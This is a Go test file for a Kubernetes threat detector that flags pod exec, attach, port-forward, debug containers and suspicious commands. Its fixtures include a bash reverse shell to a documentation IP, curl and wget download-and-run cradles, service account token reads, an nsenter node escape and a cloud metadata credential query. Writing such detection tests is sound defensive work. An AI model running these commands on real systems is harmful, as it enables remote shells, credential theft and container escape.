package detect

import (
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/kubedelta/kubedelta/internal/cluster"
	"github.com/kubedelta/kubedelta/internal/event"
)

// The query format is kubectl's (k8s.io/kubectl pkg/cmd/exec: one
// command= per argument, then container=, stdin=, stdout=, tty=; port-forward
// sends ports=), as the fixture's `command=id&stdout=true` shows.
func TestParseExecQuery(t *testing.T) {
	tests := []struct {
		uri  string
		want apiExecRequest
	}{
		{"/api/v1/namespaces/ns/pods/p/exec?command=sh&command=-c&command=ls%20-la%20%2Ftmp&container=app&stdin=true&stdout=true&tty=true",
			apiExecRequest{Command: []string{"sh", "-c", "ls -la /tmp"}, Container: "app", TTY: true}},
		{"/api/v1/namespaces/probe-ns/pods/p1/exec?command=id&stdout=true", apiExecRequest{Command: []string{"id"}}},
		{"/api/v1/namespaces/ns/pods/p/exec?command=echo+hi&command=%zz", apiExecRequest{Command: []string{"echo hi", "%zz"}}},
		{"/api/v1/namespaces/ns/pods/p/exec?command=&command=x", apiExecRequest{Command: []string{"", "x"}}},
		{"/api/v1/namespaces/ns/pods/p/portforward?ports=5432&ports=8080", apiExecRequest{Ports: []string{"5432", "8080"}}},
		{"/api/v1/namespaces/ns/pods/p/attach?container=app&stdin=true&tty=1", apiExecRequest{Container: "app", TTY: true}},
		{"/api/v1/namespaces/ns/pods/p/exec", apiExecRequest{}},
		{"/api/v1/namespaces/ns/pods/p/exec?c%6Fmmand=sh&c%6fmmand=-i", apiExecRequest{Command: []string{"sh", "-i"}}},
	}
	for _, tt := range tests {
		got := apiParseExecQuery(tt.uri)
		if !slices.Equal(got.Command, tt.want.Command) || got.Container != tt.want.Container ||
			!slices.Equal(got.Ports, tt.want.Ports) || got.TTY != tt.want.TTY {
			t.Errorf("apiParseExecQuery(%q) = %+v, want %+v", tt.uri, got, tt.want)
		}
	}
}

// apiExecReq is an exec the way the API server audits it for a kubectl
// exec session: ResponseStarted with 101 Switching Protocols (mirrors
// k8s.io/apiserver pkg/endpoints/filters/audit.go, where Hijack fakes a
// 101 before the protocol switch).
func apiExecReq(user, ns, pod, query string) *event.APIRequest {
	r := apiReq(user, "create", "/api/v1/namespaces/"+ns+"/pods/"+pod+"/exec?"+query, 101, 0)
	r.Stage = event.StageResponseStarted
	return r
}

func TestExecIntoPod(t *testing.T) {
	idx := cluster.NewIndex(nil)
	priv := apiPod("shop", "cart-7d9f-abcde", "cart", "10.244.9.9", false)
	yes := true
	priv.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &yes}
	idx.AddPod(priv)
	withIndex := func() *State { s := apiState(); s.Index = idx; return s }
	debug := apiReq("alice", "patch", "/api/v1/namespaces/shop/pods/web-1/ephemeralcontainers", 200, 0)
	debug.RequestObject = []byte(`{"spec":{"ephemeralContainers":[{"name":"debugger-x","image":"busybox:1.36","stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}`)
	pf := apiReq("alice", "create", "/api/v1/namespaces/shop/pods/db-0/portforward?ports=5432", 101, 0)
	attach := apiReq("alice", "create", "/api/v1/namespaces/shop/pods/web-1/attach?container=app&stdin=true&tty=true", 101, 0)
	tests := []struct {
		name     string
		opts     APIOptions
		state    func() *State
		r        *event.APIRequest
		sev      Severity // 0: no alert
		workload string
		key      string
		contains string
	}{
		{"user runs id (fixture)", APIOptions{}, apiState, apiExecReq("alice", "probe-ns", "p1", "command=id&stdout=true"), Medium,
			"Pod/probe-ns/p1", "exec id", "alice (user) ran `id` in pod probe-ns/p1 through the API"},
		{"into kube-system", APIOptions{}, apiState, apiExecReq("alice", "kube-system", "etcd-cp-1", "command=etcdctl&command=get&command=/registry&command=--prefix&container=etcd"), High,
			"Pod/kube-system/etcd-cp-1", "exec etcd etcdctl get /registry --prefix", "kube-system is a privileged namespace"},
		{"configured privileged namespace", APIOptions{PrivilegedNamespaces: []string{"istio-system"}}, apiState,
			apiExecReq("alice", "istio-system", "istiod-1", "command=pilot-discovery&command=version"), High, "Pod/istio-system/istiod-1", "", ""},
		{"service account execs", APIOptions{}, apiState, apiExecReq(apiCartSA, "shop", "web-1", "command=ls"), High, "Pod/shop/web-1", "", "automation should not need a shell"},
		{"service account execs into kube-system", APIOptions{}, apiState, apiExecReq(apiCartSA, "kube-system", "coredns-1", "command=ls"), Critical, "", "", ""},
		{"privileged pod, workload from the inventory", APIOptions{}, withIndex, apiExecReq("alice", "shop", "cart-7d9f-abcde", "command=ls&container=app"), High,
			"Deployment/shop/cart", "exec app ls", "the pod runs a privileged container"},
		{"attach", APIOptions{}, apiState, attach, Medium, "Pod/shop/web-1", "attach app", "attached to pod shop/web-1 (container app)"},
		{"port-forward", APIOptions{}, apiState, pf, Low, "Pod/shop/db-0", "portforward", "port-forwarded to pod shop/db-0 (ports 5432)"},
		{"privileged debug container", APIOptions{}, apiState, debug, High, "Pod/shop/web-1", "ephemeralcontainers",
			"added a debug container to pod shop/web-1 (image busybox:1.36) through the API; the debug container is privileged"},
		{"websocket exec is audited as get", APIOptions{}, apiState, apiReq("alice", "get", "/api/v1/namespaces/shop/pods/web-1/exec?command=date", 101, 0), Medium, "", "exec date", ""},
		{"denied exec is rbac.denied's", APIOptions{}, apiState, apiReq("alice", "create", "/api/v1/namespaces/probe-ns/pods/p1/exec?command=id&stdout=true", 403, 0), 0, "", "", ""},
		{"logs are not exec", APIOptions{}, apiState, apiReq("alice", "get", "/api/v1/namespaces/shop/pods/web-1/log", 200, 0), 0, "", "", ""},
		{"reading ephemeral containers", APIOptions{}, apiState, apiReq("alice", "get", "/api/v1/namespaces/shop/pods/web-1/ephemeralcontainers", 200, 0), 0, "", "", ""},
		{"pods themselves", APIOptions{}, apiState, apiReq("alice", "create", "/api/v1/namespaces/shop/pods", 201, 0), 0, "", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := apiRun(t, apiDetector(t, tt.opts, RuleExecIntoPod), tt.state(), false, tt.r)
			if tt.sev == 0 {
				if len(got) != 0 {
					t.Fatalf("want no alert, got %q", got[0].Message)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("want 1 alert, got %d", len(got))
			}
			a := got[0]
			apiCheckAlert(t, a)
			if a.Rule != RuleExecIntoPod || a.Severity != tt.sev {
				t.Errorf("got %s %v, want %s %v (%s)", a.Rule, a.Severity, RuleExecIntoPod, tt.sev, a.Message)
			}
			if tt.workload != "" && a.Workload != tt.workload {
				t.Errorf("workload %q, want %q", a.Workload, tt.workload)
			}
			if tt.key != "" && a.Key != tt.key {
				t.Errorf("key %q, want %q", a.Key, tt.key)
			}
			if !strings.Contains(a.Message, tt.contains) {
				t.Errorf("message %q does not contain %q", a.Message, tt.contains)
			}
		})
	}
}

func TestExecSuspiciousAPI(t *testing.T) {
	disabled := func() *State {
		s := apiState()
		s.Config.Disabled = []string{RuleExecSuspicious}
		return s
	}
	debug := apiReq("alice", "patch", "/api/v1/namespaces/shop/pods/web-1/ephemeralcontainers", 200, 0)
	debug.RequestObject = []byte(`{"spec":{"ephemeralContainers":[{"name":"d","image":"alpine","command":["sh","-c","wget -qO- http://203.0.113.7/x | sh"]}]}}`)
	tests := []struct {
		name     string
		state    func() *State
		r        *event.APIRequest
		rule     string
		sev      Severity
		contains string
	}{
		{"reverse shell", apiState, apiExecReq("alice", "shop", "web-1", "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.5%2F4444+0%3E%261&container=app"),
			RuleExecSuspicious, Critical, "ran `bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'` in pod shop/web-1 (container app) through the API — reverse shell: shell I/O redirected to /dev/tcp/203.0.113.5/4444"},
		{"interactive shell", apiState, apiExecReq("alice", "shop", "web-1", "command=%2Fbin%2Fsh&stdin=true&stdout=true&tty=true"),
			RuleExecSuspicious, Medium, "ran `/bin/sh` in pod shop/web-1 with a terminal through the API — interactive shell"},
		{"service account shell in kube-system", apiState, apiExecReq(apiCartSA, "kube-system", "coredns-1", "command=sh"),
			RuleExecSuspicious, Critical, "interactive shell"},
		{"token theft", apiState, apiExecReq("alice", "shop", "web-1", "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"),
			RuleExecSuspicious, High, "credential file: reads a service account token"},
		{"debug container runs a cradle", apiState, debug, RuleExecSuspicious, High, "download exec"},
		{"rule disabled: plain exec alert", disabled, apiExecReq("alice", "shop", "web-1", "command=sh"), RuleExecIntoPod, Medium, "ran `sh`"},
		{"benign command: exec alert only", apiState, apiExecReq("alice", "shop", "web-1", "command=sh&command=-c&command=exec+nginx+-s+reload"), RuleExecIntoPod, Medium, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := apiRun(t, apiDetector(t, APIOptions{}, RuleExecSuspicious), tt.state(), false, tt.r)
			if len(got) != 1 {
				t.Fatalf("want exactly one alert, got %v", apiRules(got))
			}
			a := got[0]
			apiCheckAlert(t, a)
			if a.Rule != tt.rule || a.Severity != tt.sev || !strings.Contains(a.Message, tt.contains) {
				t.Errorf("got %s %v %q, want %s %v containing %q", a.Rule, a.Severity, a.Message, tt.rule, tt.sev, tt.contains)
			}
			if a.Rule == RuleExecSuspicious && !slices.Contains(a.MITRE, "T1609") {
				t.Errorf("MITRE %v lacks T1609 (Container Administration Command)", a.MITRE)
			}
		})
	}
}

// apiProc is a process event as Falco reports one (proc.exepath, the
// arguments after argv[0], k8s.ns.name, k8s.pod.name).
func apiProc(exe string, args ...string) *event.Exec {
	return &event.Exec{Time: apiT0, Source: "falco", Node: "worker-1", Namespace: "shop", Pod: "cart-7d9f-abcde", Container: "app",
		ContainerID: "3f2a9c1d", Image: "registry.example/cart:2.3.1", PID: 4242, UID: 1000, Executable: exe, Args: args, Parent: "/usr/bin/python3"}
}

func TestExecSuspiciousProcess(t *testing.T) {
	tetragon := apiProc("/bin/bash", "-c", "curl -s http://203.0.113.7/x | bash")
	tetragon.Source, tetragon.WorkloadKind, tetragon.Workload = "tetragon", "Deployment", "cart"
	node := apiProc("/usr/bin/nsenter", "-t", "1", "-m", "-u", "-i", "-n", "bash")
	node.Namespace, node.Pod, node.Container = "", "", ""
	fromAudit := apiProc("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
	fromAudit.Source = "audit"
	tests := []struct {
		name     string
		e        *event.Exec
		sev      Severity // 0: none
		workload string
		contains string
	}{
		{"reverse shell", apiProc("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), Critical, "Pod/shop/cart-7d9f-abcde",
			"a process in pod shop/cart-7d9f-abcde (container app) ran `/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'` (parent python3) in image registry.example/cart:2.3.1 — reverse shell"},
		{"sensor's workload", tetragon, High, "Deployment/shop/cart", "download exec"},
		{"escape from a node-level sensor", node, Critical, "Node/worker-1", "on node worker-1"},
		{"metadata", apiProc("/usr/bin/curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"), High, "", "cloud metadata"},
		{"a shell alone is not judged here", apiProc("/bin/sh"), 0, "", ""},
		{"downloads are not judged here", apiProc("/usr/bin/curl", "-o", "/tmp/x", "https://example.org/x"), 0, "", ""},
		{"entrypoint", apiProc("/bin/sh", "-c", "exec nginx -g 'daemon off;'"), 0, "", ""},
		{"already judged from the audit log", fromAudit, 0, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := apiDetector(t, APIOptions{}, RuleExecSuspicious).(ExecDetector)
			var got []Alert
			d.Exec(apiState(), tt.e, func(a Alert) { got = append(got, a) })
			if tt.sev == 0 {
				if len(got) != 0 {
					t.Fatalf("want no alert, got %q", got[0].Message)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("want 1 alert, got %d", len(got))
			}
			a := got[0]
			apiCheckAlert(t, a)
			if a.Rule != RuleExecSuspicious || a.Severity != tt.sev || a.Subject != "" || !strings.Contains(a.Message, tt.contains) {
				t.Errorf("got %s %v subject %q %q, want %v containing %q", a.Rule, a.Severity, a.Subject, a.Message, tt.sev, tt.contains)
			}
			if tt.workload != "" && a.Workload != tt.workload {
				t.Errorf("workload %q, want %q", a.Workload, tt.workload)
			}
		})
	}
}

// TestExecSuspiciousDedup: the same command in the same workload twice is
// one alert counted twice.
func TestExecSuspiciousDedup(t *testing.T) {
	d := apiDetector(t, APIOptions{}, RuleExecSuspicious).(ExecDetector)
	s := apiState()
	agg := NewAggregator(s.Config)
	for i := range 2 {
		e := apiProc("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
		e.Time = apiT0.Add(time.Duration(i) * time.Minute)
		e.PID = uint32(100 + i)
		d.Exec(s, e, func(a Alert) { agg.Add(a, Facts{}) })
	}
	got := agg.Alerts()
	if len(got) != 1 || got[0].Count != 2 {
		t.Fatalf("want one alert counted twice, got %+v", got)
	}
}
